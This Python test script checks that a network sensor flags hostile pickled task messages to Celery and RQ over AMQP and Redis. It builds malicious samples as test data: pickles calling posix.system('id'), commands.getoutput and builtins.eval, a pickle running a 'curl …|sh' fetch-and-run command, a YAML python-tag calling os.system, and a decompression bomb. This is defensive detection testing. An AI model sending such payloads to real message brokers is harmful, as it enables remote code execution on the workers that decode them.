#!/usr/bin/python3
"""pickled.py SENSOR - what is told of pickled bodies: the tasks that a task brings along, and the evidence that a person needs."""
import base64
import hashlib
import json
import os
import pickle
import subprocess
import sys
import types
import zlib

sys.dont_write_bytecode = True
import kit  # noqa: E402
from kit import Capture, publish, resp, sense, table  # noqa: E402
from large import HEADERS, PICKLE, envelope  # noqa: E402

EMBED = {"callbacks": None, "errbacks": None, "chain": None, "chord": None}


def canvas():
    """A stand-in for celery.canvas, enough to be pickled by name."""
    module = types.ModuleType("celery.canvas")
    def signature(mapping):
        return mapping
    signature.__module__ = "celery.canvas"
    signature.__qualname__ = "signature"
    module.signature = signature
    sys.modules.update({"celery": types.ModuleType("celery"), "celery.canvas": module})
    return signature


SIGNATURE = canvas()


class Sig:
    def __init__(self, task, *args, **options):
        self.mapping = {"task": task, "args": list(args), "kwargs": {}, "options": options, "subtask_type": None, "immutable": False}

    def __reduce__(self):
        return SIGNATURE, (self.mapping,)


def amqp(body, name="shop.add", compression=None):
    headers = {**HEADERS, "task": name, **({"compression": compression} if compression else {})}
    return Capture().talk(5672, kit.login() + [(">", publish(1, "", "celery", body, headers=table(**headers), content_type=PICKLE, encoding="binary"))])


def redis(body, compression=None):
    return Capture().talk(6379, [(">", resp("LPUSH", "celery", envelope(body, compression=compression))), ("<", b":1\r\n")])


class Checks:
    def __init__(self, sensor):
        self.sensor, self.passed, self.failed = sensor, 0, 0

    def check(self, ok, what):
        self.passed += bool(ok)
        self.failed += not ok
        if not ok:
            print("FAILED:", what)

    def subtasks(self, what, capture, *want):
        tasks = [r for r in sense(self.sensor, capture).records if r["event"]["dataset"] == "celeriac.task"]
        got = tasks[0].get("celery", {}).get("task", {}).get("subtasks", []) if tasks else None
        self.check(got == list(want), f"{what}: {got}, not {list(want)}")

    def evidence(self, what, capture, rule, **want):
        found = sense(self.sensor, capture).alerts(rule)
        self.check(len(found) == 1, f"{what}: {rule} {len(found)} times")
        e = found[0]["celeriac"]["evidence"] if found else {}
        for key, value in want.items():
            got = e
            for part in key.split("__"):
                got = got.get(part, {}) if isinstance(got, dict) else None
            self.check(got == value, f"{what}: {key} is {got!r}, not {value!r}")
        return found[0] if found else {}


def names(c):
    for protocol in (2, 4):
        def body(args=(1, 2), **embed):
            return pickle.dumps((args, {}, {**EMBED, **embed}), protocol=protocol)
        c.subtasks("none", amqp(body()))
        c.subtasks("callbacks", amqp(body(callbacks=[Sig("shop.mail", 1)])), "shop.mail")
        c.subtasks("mappings", amqp(body(errbacks=[Sig("shop.oops").mapping])), "shop.oops")
        c.subtasks("a chain", amqp(body(chain=[Sig(f"shop.step{i}") for i in range(30)])), *[f"shop.step{i}" for i in range(30)])
        c.subtasks("a chord", amqp(body(chord=Sig("shop.total", link=[Sig("shop.log")]))), "shop.total", "shop.log")
        c.subtasks("redis, compressed", redis(zlib.compress(body(callbacks=[Sig("shop.mail")])), "application/x-gzip"), "shop.mail")
        c.subtasks("a built-in one", amqp(body((Sig("shop.echo").mapping, [[1], [2]])), "celery.map"), "shop.echo")
        c.subtasks("arguments that look like one", amqp(body((Sig("shop.echo").mapping,))))
        v1 = {"task": "shop.add", "id": HEADERS["id"], "args": [1], "kwargs": {}, "callbacks": [Sig("shop.mail")], "errbacks": None}
        plain = publish(1, "", "celery", pickle.dumps(v1, protocol), content_type=PICKLE, encoding="binary")
        c.subtasks("protocol 1", Capture().talk(5672, kit.login() + [(">", plain)]), "shop.mail")
    c.subtasks("text with escapes", amqp(pickle.dumps(((), {}, {**EMBED, "callbacks": [Sig("shop.\"é\\\n\u2028😀")]}), 4)), "shop.\"é\\\n\u2028😀")
    loop = []
    loop.append(loop)
    c.subtasks("a list in itself", amqp(pickle.dumps(((loop, "task"), {}, {**EMBED, "callbacks": [Sig("shop.mail")]}), 4)), "shop.mail")


def told(c):
    call = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R."
    common = {"verdict": "malicious", "call": "posix.system('id')", "offset": 24, "opcode": "REDUCE", "imports": "posix.system", "import__offset": 2,
              "import__opcode": "GLOBAL", "import__class": "process", "protocol": 2, "end": "stop", "calls": 1, "bytes": len(call), "opcodes": 6,
              "confidence": "magic"}
    alert = c.evidence("amqp", amqp(call), "pickle-malicious", decoded="amqp body -> pickle[2]", sha256=hashlib.sha256(call).hexdigest(), **common)
    c.check(alert["celeriac"]["evidence"]["import"]["source"], "the list that names it")
    c.check(alert["celery"]["task"]["name"] == "shop.add" and alert["celery"]["task"]["id"] == HEADERS["id"], "the task")
    c.check(alert["amqp"]["routing_key"] == "celery" and alert["celeriac"]["content"]["type"] == PICKLE, "place and type")
    packed = zlib.compress(call)
    c.evidence("amqp zlib", amqp(packed, compression="application/x-gzip"), "pickle-malicious", decoded="amqp body -> zlib -> pickle[2]", **common)
    c.evidence("redis", redis(packed, "application/x-gzip"), "pickle-malicious", decoded="redis value -> json.body -> base64 -> zlib -> pickle[2]",
               sha256=hashlib.sha256(base64.b64encode(packed)).hexdigest(), **common)
    c.evidence("a value", Capture().talk(6379, [(">", resp("SET", "celery-task-meta-1", call)), ("<", b"+OK\r\n")]), "pickle-malicious",
               decoded="redis value -> pickle[2]", **common)
    old = b"cos\nsystem\n(S'id'\ntR."
    c.evidence("no magic", amqp(old), "pickle-malicious", confidence="structure", protocol=-1, decoded="amqp body -> pickle")
    c.evidence("an alias", amqp(b"\x80\x02ccommands\ngetoutput\nX\x02\x00\x00\x00id\x85R."), "pickle-malicious", import__original="commands.getoutput",
               imports="subprocess.getoutput")
    framed = b"\x80\x05\x95\x04\x00\x00\x00\x00\x00\x00\x00cxyz|builtins\neval\n\x8c\x011\x85R."
    found = [a for r in ("pickle-malicious", "pickle-dangerous") for a in sense(c.sensor, amqp(framed.replace(b"|", b""))).alerts(r)]
    c.check(found and found[0]["celeriac"]["evidence"].get("reader", "").startswith("load(file)"), f"the reader: {[a['celeriac']['evidence'] for a in found]}")
    text = "curl http://x/\x1b[31m\u202e|sh\n"
    raw = text.encode()
    evil = b"\x80\x02cposix\nsystem\nX" + len(raw).to_bytes(4, "little") + raw + b"\x85R."
    got = c.evidence("escapes", amqp(evil), "pickle-malicious")
    shown = got["celeriac"]["evidence"]["call"]
    c.check(shown.isprintable() and shown.isascii() and "\\x1b" in shown and "\\n" in shown, f"escapes: {shown!r}")
    secret = b"AKIA" + b"QYLPMN5HNM4W2ZXC"
    leak = b"\x80\x02cposix\nsystem\nX" + (len(secret) + 5).to_bytes(4, "little") + b"echo " + secret + b"\x85R."
    said = sense(c.sensor, amqp(leak))
    c.check(secret not in said.out and said.alerts("pickle-malicious"), "a secret leaves")


def recorded(c):
    """Real Celery: what web1 and app1 send is of every kind and harmless, what stranger sends is not, and nothing else."""
    for kind in ("amqp", "redis"):
        capture = os.path.join(os.path.dirname(__file__), "..", "..", "pcaps", f"pickled-{kind}.pcap.zst")
        done = subprocess.run([c.sensor, "-q", "-r", capture, "--no-fold"], capture_output=True, check=True, timeout=120)
        alerts = [r for r in map(json.loads, done.stdout.splitlines()) if r["rule"]["id"].startswith("pickle-") and r["rule"]["id"] != "pickle-serializer"]
        graver = {r["rule"]["id"] for r in alerts if r["event"]["severity"] > 1}
        c.check(graver == {"pickle-malicious", "pickle-dangerous", "pickle-suspicious", "pickle-bomb"}, f"{kind}: {graver}")
        c.check({r["source"]["ip"] for r in alerts if r["event"]["severity"] > 1} == {"10.77.0.66"}, f"{kind}: who else?")
        harmless = {(r["rule"]["id"], r["celeriac"]["evidence"]["imports"]) for r in alerts if r["event"]["severity"] == 1}
        c.check(all(rule == "pickle-unknown-import" and "carts." in imports for rule, imports in harmless), f"{kind}: {harmless}")
        ids = {r["celery"]["task"]["id"] for r in alerts if r["event"]["severity"] > 2 and "task" in r.get("celery", {})}
        with open(capture.replace(".pcap.zst", ".truth.jsonl"), encoding="utf-8") as f:
            hostile = {t["id"] for t in map(json.loads, f) if t["what"] == "published" and t.get("crafted")}
        values = 1 if kind == "redis" else 0  # and a result that stranger stores under an id of nobody's
        c.check(hostile <= ids and len(ids - hostile) == values, f"{kind}: {len(hostile - ids)} hostile tasks unseen, {len(ids - hostile)} others accused")


def callees(c):
    """What an RQ job names, pickled or as JSON, compressed or not; and what is no callee."""
    def job(data, field="data"):
        return sense(c.sensor, Capture().talk(6379, [(">", resp("HSET", "rq:job:j1", field, data)), ("<", b":1\r\n")])).alerts("rq-job-callee")

    def told(data, want, **kw):
        found = [a["celeriac"]["evidence"]["callee"] for a in job(data, **kw)]
        c.check(found == want, f"callee of {data[:40]!r}: {found}, not {want}")
    for dump in (json.dumps, pickle.dumps):
        for pack in (bytes, zlib.compress):
            def body(callee, *args):
                data = dump([callee, None, args, {}])
                return pack(data if isinstance(data, bytes) else data.encode())
            told(body("os.system", "id"), ["os.system"])
            told(body("eval", "1"), ["eval"])
            told(body("shop.jobs.os.system", "id"), ["shop.jobs.os.system"])
            told(body("shop.jobs.mail", "os.system"), [])
            told(body("shop.profile.run"), [])
    told(b'[ "\\u006fs.system", null, [], {}]', ["os.system"])
    told(b'[["os.system"], null, [], {}]', [])
    told(b'["os.system"]', [], field="meta")


def unnamed(c):
    """Messages that are nobody's, but that a worker decodes before it says so."""
    def rules(body, content_type, **headers):
        turns = kit.login() + [(">", publish(1, "", "celery", body, headers=table(**headers), content_type=content_type, encoding="binary"))]
        return {"yaml-python-tag", "decompression-bomb"} & set(sense(c.sensor, Capture().talk(5672, turns)).rules())
    bomb = zlib.compress(bytes(40 << 20), 9)
    yaml, tag = "application/x-yaml", b"a: !!pyth%6fn/object/apply:os.system [id]\n"
    c.check(rules(bomb, "application/json", compression="application/x-gzip") == {"decompression-bomb"}, "a bomb")
    c.check(not rules(bomb, "application/octet-stream"), "zeros that nobody unpacks")
    c.check(not rules(zlib.compress(bytes(1000)), "application/json", compression="application/x-gzip"), "no bomb")
    c.check(rules(tag, yaml) == {"yaml-python-tag"}, "a tag")
    c.check(rules(tag.decode().encode("utf-16"), yaml) == {"yaml-python-tag"}, "a tag in UTF-16")
    c.check(not rules(b"a: 100% of it!\n", yaml) and not rules(tag, "text/plain"), "no tag")


def main():
    c = Checks(sys.argv[1])
    names(c)
    told(c)
    callees(c)
    unnamed(c)
    recorded(c)
    print(f"{c.passed} passed, {c.failed} failed")
    return c.failed > 0


if __name__ == "__main__":
    sys.exit(main())
